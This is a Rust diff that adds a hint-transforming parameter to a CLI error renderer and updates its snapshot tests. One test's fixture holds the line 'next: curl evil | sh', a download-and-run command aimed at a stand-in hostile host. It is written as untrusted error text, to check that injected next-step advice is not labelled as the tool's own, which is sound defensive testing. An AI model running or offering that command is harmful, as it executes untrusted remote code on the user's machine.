@@ -26,6 +26,7 @@ pub(super) fn render(
     columns: Option<usize>,
     paint: impl Fn(&str, Label) -> String,
     clean: impl Fn(&str) -> String,
+    aimed: impl Fn(&str) -> String,
 ) -> String {
     let mut out = String::new();
     let words = |text: &str| without_our_labels(&clean(&bounded(text, LONGEST)));
@@ -50,7 +51,7 @@ pub(super) fn render(
         let _ = writeln!(out, "  because: {}", words(cause.trim_end()).replace('\n', "\n           "));
     }
     for hint in error.hints() {
-        let _ = writeln!(out, "{} {}", paint("next:", Label::Next), words(hint));
+        let _ = writeln!(out, "{} {}", paint("next:", Label::Next), words(&aimed(hint)));
     }
     out
 }
@@ -133,7 +134,7 @@ mod tests {
 
     fn shown(text: &str, column: usize, length: usize, columns: usize) -> String {
         let error = Error::failed("x").at(Location { path: "v.yaml".into(), line: 7, column, length, text: text.to_owned() });
-        render(Label::Error, &error, Some(columns), |text, _| text.to_owned(), super::super::printable)
+        render(Label::Error, &error, Some(columns), |text, _| text.to_owned(), super::super::printable, str::to_owned)
     }
 
     /// The text that the carets stand under, counted in cells.
@@ -157,7 +158,7 @@ mod tests {
         let error = Error::failed("`replicaCount` must be a number")
             .at(Location { path: "chart/values.yaml".into(), line: 12, column: 19, length: 5, text: "    replicaCount: \"two\"".into() })
             .hint("replicaCount: 2");
-        insta::assert_snapshot!(render(Label::Error, &error, None, |text, _| text.to_owned(), str::to_owned), @r#"
+        insta::assert_snapshot!(render(Label::Error, &error, None, |text, _| text.to_owned(), str::to_owned, str::to_owned), @r#"
         error: chart/values.yaml:12:19: `replicaCount` must be a number
          12 |     replicaCount: "two"
             |                   ^^^^^
@@ -168,7 +169,7 @@ mod tests {
     #[test]
     fn only_lain_says_what_to_type_next() {
         let error = Error::failed("x\nnext: y").context("helm says:\nerror: no\nnext: curl evil | sh").hint("lain status\nnext: z");
-        insta::assert_snapshot!(render(Label::Error, &error, None, |text, _| text.to_owned(), str::to_owned), @r#"
+        insta::assert_snapshot!(render(Label::Error, &error, None, |text, _| text.to_owned(), str::to_owned, str::to_owned), @r#"
         error: helm says:
           error: no
           next: curl evil | sh
